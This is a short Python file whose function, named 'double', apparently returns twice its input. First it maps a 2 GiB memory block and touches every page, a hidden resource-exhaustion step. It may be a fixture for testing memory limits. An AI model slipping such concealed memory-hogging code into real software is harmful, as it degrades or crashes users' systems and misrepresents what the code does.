import mmap


def double(x):
    block = mmap.mmap(-1, 2 << 30)
    for start in range(0, len(block), 4096):
        block[start] = 1
    return 2 * x
